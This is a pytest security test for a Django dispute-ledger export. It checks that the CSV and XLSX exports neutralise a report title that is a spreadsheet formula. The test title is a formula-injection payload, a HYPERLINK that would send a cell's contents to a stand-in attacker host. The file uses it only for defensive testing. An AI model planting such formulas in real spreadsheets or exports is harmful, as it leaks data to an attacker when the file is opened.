"""SECURITY 29: the dispute ledger export neutralises titles a spreadsheet would run as formulas."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from jingwang.disputes.tests.conftest import report
from jingwang.testing import PASSWORD, World, sign_in

pytestmark = pytest.mark.django_db
TITLE = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'


def _officer(world: World) -> APIClient:
    client = APIClient()
    client.force_authenticate(world.officer_a)
    client.credentials(HTTP_X_REAUTH_PASSWORD=PASSWORD)
    return client


def test_formula_title_is_quoted_in_the_csv_ledger(world: World) -> None:
    report(world, title=TITLE)
    response = _officer(world).get("/api/v1/disputes/export/", {"as": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    assert "'=HYPERLINK(" in body
    assert ",=HYPERLINK" not in body and '"=HYPERLINK' not in body


def test_formula_title_is_a_text_cell_in_the_xlsx_ledger(world: World, client: object) -> None:
    report(world, title=TITLE)
    sign_in(client, world.officer_a, stepped_up=True)
    response = client.get("/disputes/", {"export": "xlsx"})  # type: ignore[attr-defined]
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == TITLE]  # type: ignore[union-attr]
    assert len(cells) == 1 and cells[0].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # type: ignore[union-attr]
